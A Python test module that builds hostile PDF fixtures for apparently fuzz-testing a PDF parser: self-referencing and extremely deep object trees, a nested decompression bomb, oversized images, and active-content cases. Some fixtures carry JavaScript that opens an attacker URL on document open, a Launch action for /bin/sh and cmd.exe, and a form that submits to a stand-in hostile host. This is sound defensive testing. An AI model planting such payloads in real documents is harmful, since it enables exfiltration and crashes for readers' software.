"""Hostile PDF files: tables, trees and streams that lead back to themselves, and scripts that want to run."""

# ruff: noqa: E501 - markup is read best where a tag is not broken
from __future__ import annotations

import zlib
from typing import Final

from tests.fuzz.odd import CANARY_PATH, ENEMY
from tests.hostile.building import Files

FILES = Files()
_SEEN: Final = b"BT /F 12 Tf 72 700 Td (seen) Tj ET"
_ANY: Final = "ok|ok+flag:*|error:corrupt-pdf|error:too-large|error:encrypted|error:too-many-pages"
_FONT: Final = b"/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
_BOX: Final = b"/MediaBox [0 0 595 842]"


def pdf(*objects: bytes, trailer: bytes = b"", prev: bytes = b"") -> bytes:
    """A file of numbered objects, the first one the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, inner in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, inner)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        prev,
        start,
    )
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(
    content: bytes = _SEEN,
    *more: bytes,
    catalogue: bytes = b"",
    page: bytes = b"",
    entries: bytes = b"",
    box: bytes = _BOX,
) -> bytes:
    """A page of this content; `more` objects are numbered from 5."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R %s /Contents 4 0 R %s %s >>" % (box, _FONT if b"/Resources" not in page else b"", page),
        stream(content, entries), *more,
    )  # fmt: skip


@FILES.add(".pdf", _ANY)
def a_table_that_leads_back_to_itself() -> bytes:
    data = one_page()
    start = data.rpartition(b"startxref\n")[2].split(b"\n")[0]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %s /XRefStm %s" % (start, start))


@FILES.add(".pdf", _ANY)
def a_length_that_is_its_own_stream() -> bytes:
    return one_page().replace(b"<< /Length 34", b"<< /Length 4 0 R")


@FILES.add(".pdf", _ANY)
def pages_that_are_their_own_parents() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 99999999 /Parent 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count -1 >>",
    )


@FILES.add(".pdf", _ANY)
def a_tree_of_pages_five_thousand_deep() -> bytes:
    depth = 5_000
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 3, n + 1) for n in range(depth)]
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        *nodes,
        b"<< /Type /Page /Parent %d 0 R %s /Contents %d 0 R %s >>" % (depth + 1, _BOX, depth + 3, _FONT),
        stream(_SEEN),
    )


@FILES.add(".pdf", _ANY, slow=True)
def one_page_a_hundred_thousand_times() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % (b"3 0 R " * 100_000),
        b"<< /Type /Page /Parent 2 0 R %s /Contents 4 0 R %s >>" % (_BOX, _FONT),
        stream(_SEEN),
    )


@FILES.add(".pdf", "ok+flag:script")
def scripts_that_run_on_opening() -> bytes:
    return one_page(
        catalogue=b"/OpenAction << /S /JavaScript /JS (app.launchURL('%s')) >> /AA << /WC << /S /JavaScript /JS (x) >> >>"
        % ENEMY.encode()
    )


@FILES.add(".pdf", "ok+flag:launch|ok+flag:script")
def a_program_to_be_started() -> bytes:
    return one_page(catalogue=b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>")


@FILES.add(".pdf", "ok|ok+flag:*")
def a_form_that_is_sent_and_a_file_that_is_read() -> bytes:
    return one_page(
        _SEEN, stream(b"x", b"/F << /FS /URL /F (%s/x) >> /FFilter /FlateDecode" % ENEMY.encode()), stream(b"x", b"/F (%s)" % CANARY_PATH.encode()),
        catalogue=b"/OpenAction << /S /SubmitForm /F (%s) >> /AcroForm << /XFA [(x) 5 0 R] /Fields [6 0 R] >>" % ENEMY.encode(),
    )  # fmt: skip


@FILES.add(".pdf", _ANY)
def letters_of_every_impossible_size() -> bytes:
    sizes = (b"1e38", b"-1e38", b"0", b"99999999999999999999", b"0.0000000001", b"NaN")
    return one_page(b"".join(b"BT /F %s Tf %s 0 0 %s 72 700 Tm (seen) Tj ET " % (size, size, size) for size in sizes))


@FILES.add(".pdf", _ANY)
def pages_of_impossible_size() -> bytes:
    return one_page(box=b"/MediaBox [-1e38 -1e38 1e38 1e38] /CropBox [9 9 1 1] /UserUnit 1e30 /Rotate 45")


@FILES.add(".pdf", _ANY, slow=True)
def two_million_strokes() -> bytes:
    return one_page(b"0 0 m 1 1 l S " * 2_000_000)


@FILES.add(".pdf", _ANY, slow=True)
def half_a_million_letters_on_one_page() -> bytes:
    return one_page(b"BT /F 8 Tf 72 700 Td " + b"(word) Tj 0.01 0 Td " * 125_000 + b"ET")


@FILES.add(".pdf", _ANY)
def a_drawing_that_draws_itself() -> bytes:
    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 5 0 R >> >>"
    )
    return one_page(
        _SEEN + b" /X Do",
        form,
        page=b"/Resources << /XObject << /X 5 0 R >> /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
    )


@FILES.add(".pdf", _ANY, slow=True)
def drawings_that_double_thirty_times() -> bytes:
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X %d 0 R >> >>" % (n + 6),
        )
        for n in range(30)
    ]
    last = stream(b"0 0 1 1 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]")
    return one_page(b"/X Do", *forms, last, page=b"/Resources << /XObject << /X 5 0 R >> >>")


@FILES.add(".pdf", _ANY)
def letters_that_are_written_in_themselves() -> bytes:
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [0 0 0 0 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1e38] /Resources << /Font << /G 5 0 R >> >> >>"
    return one_page(
        b"BT /G 9 Tf (aaaa) Tj ET",
        font,
        stream(b"1 0 d0 BT /G 9 Tf (aaaa) Tj ET"),
        page=b"/Resources << /Font << /G 5 0 R >> >>",
    )


@FILES.add(".pdf", _ANY)
def an_outline_that_runs_in_a_ring() -> bytes:
    first = b"<< /Title (one) /Parent 5 0 R /Next 7 0 R /Prev 7 0 R /First 6 0 R /Dest [3 0 R /Fit] >>"
    second = b"<< /Title (two) /Parent 6 0 R /Next 6 0 R /First 5 0 R /Dest [99 0 R /XYZ 1e38 NaN 0] >>"
    return one_page(
        _SEEN,
        b"<< /Type /Outlines /First 6 0 R /Last 7 0 R /Count 999999 >>",
        first,
        second,
        catalogue=b"/Outlines 5 0 R",
    )


@FILES.add(".pdf", _ANY)
def an_outline_five_thousand_deep() -> bytes:
    items = [
        b"<< /Title (t%d) /Parent %d 0 R /First %d 0 R /Dest [3 0 R /Fit] >>" % (n, n + 5, n + 7) for n in range(5_000)
    ]
    return one_page(_SEEN, b"<< /First 6 0 R >>", *items, catalogue=b"/Outlines 5 0 R")


@FILES.add(".pdf", _ANY)
def tags_that_are_their_own_children() -> bytes:
    root = (
        b"<< /Type /StructTreeRoot /K [6 0 R] /ParentTree << /Nums [0 [6 0 R] 0 5 0 R] >> /RoleMap << /A /B /B /A >> >>"
    )
    node = b"<< /S /A /P 5 0 R /K [6 0 R 5 0 R 0 << /Type /MCR /MCID 99999999999 /Pg 3 0 R >>] /Pg 3 0 R >>"
    return one_page(
        b"/A << /MCID 0 >> BDC " + _SEEN + b" EMC",
        root,
        node,
        catalogue=b"/StructTreeRoot 5 0 R /MarkInfo << /Marked true >>",
        page=b"/StructParents 0",
    )


@FILES.add(".pdf", _ANY, slow=True)
def a_hundred_thousand_notes_on_one_page() -> bytes:
    note = (
        b"<< /Type /Annot /Subtype /Text /Rect [0 0 1e38 -1e38] /Contents (note) /Popup 5 0 R /Parent 5 0 R /A << /S /URI /URI (%s) /Next 5 0 R >> >>"
        % ENEMY.encode()
    )
    return one_page(_SEEN, note, page=b"/Annots [%s]" % (b"5 0 R " * 100_000))


@FILES.add(".pdf", _ANY)
def fields_that_are_their_own_parents() -> bytes:
    field = b"<< /FT /Tx /T (f) /V (typed) /Parent 5 0 R /Kids [5 0 R] /Subtype /Widget /Rect [0 0 9 9] >>"
    return one_page(
        _SEEN, field, catalogue=b"/AcroForm << /Fields [5 0 R 5 0 R] /NeedAppearances true >>", page=b"/Annots [5 0 R]"
    )


@FILES.add(".pdf", _ANY)
def names_in_a_ring() -> bytes:
    node = b"<< /Kids [5 0 R 5 0 R] /Names [(a) 5 0 R (b) << /Type /Filespec /F (x) /EF << /F 4 0 R >> >>] /Limits [(z) (a)] >>"
    return one_page(_SEEN, node, catalogue=b"/Names << /EmbeddedFiles 5 0 R /JavaScript 5 0 R /Dests 5 0 R >>")


@FILES.add(".pdf", _ANY, slow=True)
def a_stream_packed_into_itself_again_and_again() -> bytes:
    data = bytes(400_000_000)
    for _ in range(3):
        data = zlib.compress(data, 9)
    return one_page(data, entries=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")


@FILES.add(".pdf", _ANY)
def filters_without_number() -> bytes:
    return one_page(
        b"x" * 1_000,
        entries=b"/Filter [%s] /DecodeParms [%s]"
        % (
            b"/ASCIIHexDecode /RunLengthDecode /LZWDecode " * 300,
            b"<< /Predictor 15 /Columns 2147483647 /Colors 999999 /BitsPerComponent 32 >> " * 900,
        ),
    )


@FILES.add(".pdf", _ANY)
def a_picture_of_four_billion_pixels() -> bytes:
    image = stream(
        b"x",
        b"/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /BitsPerComponent 16 /ColorSpace /DeviceCMYK /SMask 5 0 R /Mask 5 0 R",
    )
    return one_page(
        b"1e9 0 0 1e9 0 0 cm /X Do " + _SEEN,
        image,
        page=b"/Resources << /XObject << /X 5 0 R >> /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
    )


@FILES.add(".pdf", _ANY)
def objects_packed_in_streams_that_extend_each_other() -> bytes:
    packed = stream(b"7 0 8 2 1 1", b"/Type /ObjStm /N 999999999 /First 4294967295 /Extends 5 0 R")
    return one_page(_SEEN, packed, catalogue=b"/Metadata 7 0 R")


@FILES.add(".pdf", _ANY)
def brackets_that_never_close() -> bytes:
    return one_page(catalogue=b"/X " + b"[" * 100_000 + b"<<" * 100_000)


@FILES.add(".pdf", _ANY)
def a_page_whose_text_nests_states() -> bytes:
    return one_page(b"q " * 200_000 + _SEEN + b" BT " * 100_000 + b"/A BMC " * 100_000)


@FILES.add(".pdf", "error:encrypted|error:corrupt-pdf")
def a_lock_of_a_kind_that_is_not_known() -> bytes:
    return one_page().replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /Encrypt << /Filter /Standard /V 99 /R 99 /O (x) /U (x) /P -1 /Length 99999 >> /ID [(a) (b)]",
    )


@FILES.add(".pdf", "error:corrupt-pdf")
def a_head_and_nothing_else() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


@FILES.add(".pdf", _ANY, slow=True)
def a_map_of_letters_to_long_words() -> bytes:
    ranges = b"".join(b"<%04X> <%04X> <%s>\n" % (n * 256, n * 256 + 255, b"0041" * 500) for n in range(255))
    cmap = stream(
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange 255 beginbfrange\n"
        + ranges
        + b"endbfrange endcmap end"
    )
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (x) /Ordering (y) /Supplement 0 >> >>] >>"
    return one_page(
        b"BT /G 9 Tf <" + b"0041" * 60_000 + b"> Tj ET", font, cmap, page=b"/Resources << /Font << /G 5 0 R >> >>"
    )
